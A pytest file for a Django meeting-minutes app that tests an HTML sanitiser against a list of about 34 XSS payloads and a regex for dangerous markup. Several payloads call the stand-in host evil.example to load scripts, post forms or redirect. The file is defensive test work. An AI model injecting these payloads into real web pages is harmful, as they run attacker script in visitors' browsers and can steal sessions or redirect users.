"""Minutes in rich text: a corpus of XSS vectors comes out inert, the clerk's formatting stays."""

import re

import pytest

from vanguard.activities import richtext
from vanguard.activities.models import Meeting

from .helpers import make_meeting

pytestmark = pytest.mark.django_db

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=10></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<a href=\"javascript:alert(1)\">点我</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">点我</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">点我</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">点我</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">点我</a>",
    "<a href=\"vbscript:msgbox(1)\">点我</a>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
    "<p style=\"background:url(javascript:alert(1))\">样式</p>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div onclick=\"alert(1)\" onmouseover=alert(1)>悬停</div>",
    "<body onload=alert(1)>",
    "<form action=\"https://evil.example\"><input name=x><button>提交</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<p>正常</p><!--<script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=\"x\" alt=\"\\\"onerror=alert(1)\">",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<table background=\"javascript:alert(1)\"><tr><td>单元格</td></tr></table>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<p>一</p><isindex type=image src=1 onerror=alert(1)>",
    "<a href=\"https://example.cn\" target=\"_blank\" onfocus=\"alert(1)\" autofocus>链接</a>",
]

DANGEROUS = re.compile(r"<\s*(script|iframe|object|embed|svg|math|style|form|meta|base|link|img|input|button|"
                       r"textarea|template|video|source|details|body)\b|\son\w+\s*=|javascript:|vbscript:|data:|"
                       r"style\s*=", re.IGNORECASE)


@pytest.mark.parametrize("vector", XSS_CORPUS)
def test_every_vector_comes_out_inert(vector):
    cleaned = richtext.sanitise(f"<p>会议记录</p>{vector}")
    assert not DANGEROUS.search(cleaned), cleaned
    rendered = str(richtext.render(f"<p>会议记录</p>{vector}"))
    assert not DANGEROUS.search(rendered), rendered


def test_the_clerks_formatting_survives():
    html = ("<h4>一、学习内容</h4><p><strong>重点</strong>：<em>二十大精神</em></p><ul><li>第一条</li></ul>"
            "<ol><li>甲</li></ol><table><tbody><tr><td colspan=\"2\">表格</td></tr></tbody></table>"
            "<p><a href=\"https://www.12371.cn/\">共产党员网</a></p>")
    cleaned = richtext.sanitise(html)
    for kept in ("<h4>", "<strong>重点</strong>", "<em>", "<ul><li>第一条</li></ul>", "<ol>", 'colspan="2"',
                 'href="https://www.12371.cn/"', 'rel="noopener noreferrer nofollow"'):
        assert kept in cleaned, cleaned


def test_word_paste_keeps_the_text_and_drops_its_styles():
    pasted = ('<p class="MsoNormal" style="mso-line-height:150%"><span style="font-family:仿宋">同志们：</span>'
              '<o:p></o:p></p>')
    assert richtext.sanitise(pasted) == "<p>同志们：</p>"


def test_an_empty_editor_is_no_minutes():
    assert richtext.sanitise("<p><br></p>") == "" and richtext.sanitise("<p>&nbsp;</p>") == ""
    assert richtext.sanitise("<script>记录</script>") == ""


def test_plain_minutes_of_older_records_are_escaped_with_their_line_breaks():
    rendered = str(richtext.render("第一项\n<第二项> & 其他"))
    assert "&lt;第二项&gt; &amp; 其他" in rendered and "<br>" in rendered


def test_the_form_and_the_api_store_sanitised_minutes_and_pages_show_them_inert(cast, login):
    client = login(cast.clerk)
    response = client.post("/activities/meetings/new/", {
        "org": cast.branch_a1.pk, "kind": "themed_day", "status": "held", "topic": "主题党日", "held_on": "2026-03-01",
        "minutes": "<p>内容</p><img src=x onerror=alert(1)><script>alert(2)</script>"})
    assert response.status_code == 302
    meeting = Meeting.objects.get()
    assert meeting.minutes == "<p>内容</p>"
    api = client.post("/api/v1/meetings", {
        "org": cast.branch_a1.pk, "kind": "themed_day", "topic": "接口", "held_on": "2026-03-02",
        "minutes": "<p onclick=alert(1)>接口记录</p><a href=javascript:alert(1)>x</a>"}, content_type="application/json")
    assert api.status_code == 201, api.content
    assert Meeting.objects.get(pk=api.json()["id"]).minutes == "<p>接口记录</p><a rel=\"noopener noreferrer nofollow\">x</a>"


def test_a_row_written_around_the_form_is_sanitised_when_shown(cast, login):
    meeting = make_meeting(cast.branch_a1, minutes="<p>记录</p><script>alert(1)</script><img src=x onerror=alert(1)>")
    for url in (meeting.get_absolute_url(), f"/activities/meetings/{meeting.pk}/print/"):
        page = login(cast.clerk).get(url).content.decode()
        minutes = page[page.index("记录</p>") - 200: page.index("记录</p>") + 200]
        assert "alert(1)" not in minutes
    detail = login(cast.clerk).get(f"/api/v1/meetings/{meeting.pk}").json()
    assert "script" not in detail["minutes"] and "onerror" not in detail["minutes"]
